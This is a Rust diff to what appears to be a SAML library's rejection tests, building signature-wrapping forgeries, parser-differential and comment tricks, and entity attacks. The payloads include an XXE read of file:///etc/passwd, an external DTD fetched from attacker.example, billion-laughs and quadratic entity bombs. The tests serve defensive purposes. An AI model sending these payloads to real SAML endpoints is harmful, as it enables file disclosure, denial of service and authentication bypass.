@@ -3,13 +3,16 @@
 use std::fmt::Write as _;
 
 use admittance::{
+    crypto::{DigestAlgorithm, digest},
     encoding::{base64_encode, deflate},
     testing::saml_idp::SignedElements::{Assertion, Both},
 };
 
 use super::forge::{
-    ADA, attribute, before, evil_copy, good, resigned, swap, swap_first, with_attribute, within_last,
+    ADA, attribute, before, canonical_element, evil_copy, good, resigned, swap, swap_first, with_attribute,
+    within_last,
 };
+use super::signature::with_digest_value;
 use super::wrapping::Attack;
 use super::{Vector, reject};
 
@@ -30,28 +33,39 @@ pub(super) const COMMENTS: [(&str, Attack); 7] = [
 
 pub(super) fn vectors() -> Vec<Vector> {
     let both = good(Both);
+    let assertion = good(Assertion);
     let mut vectors: Vec<Vector> = COMMENTS
         .iter()
-        .map(|(name, attack)| match name.starts_with("pi_") {
-            true => reject(
-                name,
-                "saml.xml_processing_instruction",
-                "a processing instruction, which canonicalisation keeps and a reader may stop at",
-                attack(&both),
-            ),
-            false => reject(
-                name,
-                "saml.xml_comment",
-                "a comment splits the text, and every signature stays valid",
-                attack(&both),
-            ),
+        .filter(|(name, _)| name.starts_with("comment_"))
+        .map(|(name, attack)| {
+            let shows = "a comment splits the text, and every signature stays valid";
+            reject(name, "saml.xml_comment", shows, attack(&both))
         })
         .collect();
+    vectors.extend(instructions(&assertion));
     vectors.extend(texts(&both));
-    vectors.extend(documents(&both));
-    vectors.extend(entities(&both));
-    vectors.extend(sizes(&both));
+    vectors.extend(documents(&assertion));
+    vectors.extend(entities(&assertion));
+    vectors.extend(sizes(&assertion));
     vectors
+}
+
+/// The provider has signed the instructions with the rest, as canonicalisation keeps them.
+fn instructions(assertion: &str) -> Vec<Vector> {
+    let id = attribute(assertion, "Assertion", "ID");
+    let signed = |attack: Attack| {
+        let canonical = attack(&String::from_utf8(canonical_element(assertion, id, &[])).unwrap());
+        let digest = base64_encode(digest(DigestAlgorithm::Sha256, canonical.as_bytes()).as_ref());
+        attack(&resigned(assertion, |info| with_digest_value(info, &digest)))
+    };
+    let attacks = COMMENTS.iter().filter(|(name, _)| name.starts_with("pi_"));
+    let shows = "a processing instruction, which canonicalisation keeps and a reader may stop at";
+    attacks
+        .map(|(name, attack)| {
+            reject(name, "saml.xml_processing_instruction", shows, signed(*attack))
+                .twin("assertion_signed_only")
+        })
+        .collect()
 }
 
 fn texts(both: &str) -> Vec<Vector> {
@@ -78,81 +92,79 @@ fn texts(both: &str) -> Vec<Vector> {
     ]
 }
 
-fn documents(both: &str) -> Vec<Vector> {
-    let id = attribute(both, "Assertion", "ID");
+fn documents(assertion: &str) -> Vec<Vector> {
+    let id = attribute(assertion, "Assertion", "ID");
     vec![
         reject(
             "parser_differential_doctype",
             "saml.xml_dtd",
             "a document type whose quotes hide a comment from one parser and not from the other",
-            ["<!DOCTYPE r [<!NOTATION n PUBLIC \"x'\" 'x\"><!--'>]>", both, "<!-- '> -->"].concat(),
+            ["<!DOCTYPE r [<!NOTATION n PUBLIC \"x'\" 'x\"><!--'>]>", assertion, "<!-- '> -->"].concat(),
         ),
         reject(
             "parser_differential_quotes",
             "saml.xml_malformed",
             "an attribute without quotes, which lenient parsers read",
-            swap_first(both, " Version=\"2.0\"", " Version=2.0"),
+            swap_first(assertion, " Version=\"2.0\"", " Version=2.0"),
         ),
         reject(
             "parser_differential_quotes_repeated",
             "saml.xml_malformed",
             "an attribute twice, of which one parser takes the first and the other the last",
-            swap_first(both, " Version=\"2.0\"", &format!(" Version=\"2.0\" ID=\"{id}x\"")),
+            swap_first(assertion, " Version=\"2.0\"", &format!(" Version=\"2.0\" ID=\"{id}x\"")),
         ),
         reject(
             "parser_differential_namespace",
             "saml.xml_namespace",
             "a prefix is undeclared, which one parser takes for a declaration of nothing",
-            within_last(both, "Status", "<samlp:StatusDetail xmlns:ds=\"\"/>"),
+            within_last(assertion, "Status", "<samlp:StatusDetail xmlns:ds=\"\"/>"),
         ),
         reject(
             "parser_differential_namespace_reserved",
             "saml.xml_namespace",
             "the prefix xml is bound to another namespace",
-            within_last(both, "Status", "<samlp:StatusDetail xmlns:xml=\"https://attacker.example\"/>"),
+            within_last(assertion, "Status", "<samlp:StatusDetail xmlns:xml=\"https://attacker.example\"/>"),
         ),
         reject(
             "round_trip_unstable_names_element",
             "saml.xml_namespace",
             "an element's name with two colons changes when it is written and read again",
-            before(both, "Status", "<samlp:Extensions><x:y:z xmlns:x=\"urn:x\"/></samlp:Extensions>"),
+            before(assertion, "Status", "<samlp:Extensions><x:y:z xmlns:x=\"urn:x\"/></samlp:Extensions>"),
         ),
         reject(
             "round_trip_unstable_names_attribute",
             "saml.xml_malformed",
             "an attribute's name that begins with a colon changes when it is written and read again",
-            before(both, "Status", "<samlp:Extensions :a=\"\"/>"),
+            before(assertion, "Status", "<samlp:Extensions :a=\"\"/>"),
         ),
         reject(
             "void_c14n_relative_namespace",
             "saml.xml_namespace",
             "a relative namespace name, for which canonicalisation may fail and leave nothing to digest",
-            with_attribute(both, "Assertion", "xmlns:x", "relative"),
+            with_attribute(assertion, "Assertion", "xmlns:x", "relative"),
         ),
         reject(
             "void_c14n_empty_digest",
             "saml.digest_mismatch",
             "a validly signed digest of nothing",
-            resigned(&good(Assertion), |info| {
-                let (start, rest) = info.split_once("<ds:DigestValue>").unwrap();
-                let (_, end) = rest.split_once("</ds:DigestValue>").unwrap();
-                let empty = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
-                format!("{start}<ds:DigestValue>{empty}</ds:DigestValue>{end}")
+            resigned(assertion, |info| {
+                with_digest_value(info, "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=")
             }),
-        )
-        .twin("assertion_signed_only"),
+        ),
         reject("deflated_post", "saml.base64_invalid", "a posted message is deflated", "")
-            .form(base64_encode(&deflate(both.as_bytes()))),
+            .form(base64_encode(&deflate(assertion.as_bytes()))),
     ]
+    .into_iter()
+    .map(|vector| vector.twin("assertion_signed_only"))
+    .collect()
 }
 
-fn entities(both: &str) -> Vec<Vector> {
-    let assertion = good(Assertion);
-    let id = attribute(&assertion, "Assertion", "ID");
+fn entities(assertion: &str) -> Vec<Vector> {
+    let id = attribute(assertion, "Assertion", "ID");
     // References stand where no signature covers them.
     let with_entity = |declarations: &str, reference: &str| {
         let message = format!("<samlp:StatusMessage>{reference}</samlp:StatusMessage>");
-        let document = within_last(&assertion, "Status", &message);
+        let document = within_last(assertion, "Status", &message);
         format!("<!DOCTYPE samlp:Response [{declarations}]>{document}")
     };
     let mut laughs = "<!ENTITY a \"ha\">".to_owned();
@@ -167,49 +179,37 @@ fn entities(both: &str) -> Vec<Vector> {
             "the original's ID, written as an entity, for a forged Assertion before it",
             format!(
                 "<!DOCTYPE samlp:Response [<!ENTITY id \"{id}\">]>{}",
-                before(
-                    &assertion,
-                    "Assertion",
-                    &evil_copy(&assertion).replace(super::forge::EVIL_ID, "&id;")
-                )
+                before(assertion, "Assertion", &evil_copy(assertion).replace(super::forge::EVIL_ID, "&id;"))
             ),
-        )
-        .twin("assertion_signed_only"),
+        ),
         reject(
             "xxe_file",
             "saml.xml_dtd",
             "an entity that is a file of the receiver",
             with_entity("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"),
-        )
-        .twin("assertion_signed_only"),
+        ),
         reject(
             "xxe_parameter_entity",
             "saml.xml_dtd",
             "declarations fetched from elsewhere",
             with_entity("<!ENTITY % x SYSTEM \"https://attacker.example/x.dtd\"> %x;", "&y;"),
-        )
-        .twin("assertion_signed_only"),
-        reject("billion_laughs", "saml.xml_dtd", "entities of entities", with_entity(&laughs, "&j;"))
-            .twin("assertion_signed_only"),
+        ),
+        reject("billion_laughs", "saml.xml_dtd", "entities of entities", with_entity(&laughs, "&j;")),
         reject(
             "quadratic_entity",
             "saml.xml_dtd",
             "a long entity many times",
             with_entity(&format!("<!ENTITY x \"{}\">", "x".repeat(1000)), &"&x;".repeat(1000)),
-        )
-        .twin("assertion_signed_only"),
-        reject(
-            "entity_hides_duplicate_id_undeclared",
-            "saml.xml_malformed",
-            "a reference to an entity that is not declared",
-            swap(both, ">Engineers<", ">&engineers;<"),
         ),
     ]
+    .into_iter()
+    .map(|vector| vector.twin("assertion_signed_only"))
+    .collect()
 }
 
-fn sizes(both: &str) -> Vec<Vector> {
+fn sizes(assertion: &str) -> Vec<Vector> {
     let extended =
-        |markup: &str| before(both, "Status", &format!("<samlp:Extensions>{markup}</samlp:Extensions>"));
+        |markup: &str| before(assertion, "Status", &format!("<samlp:Extensions>{markup}</samlp:Extensions>"));
     let mut attributes = String::new();
     for number in 0..257 {
         write!(attributes, " a{number}=\"\"").unwrap();
@@ -254,6 +254,9 @@ fn sizes(both: &str) -> Vec<Vector> {
             extended(&wide),
         ),
     ]
+    .into_iter()
+    .map(|vector| vector.twin("assertion_signed_only"))
+    .collect()
 }
 
 fn within_name_id(xml: &str, markup: &str) -> String {
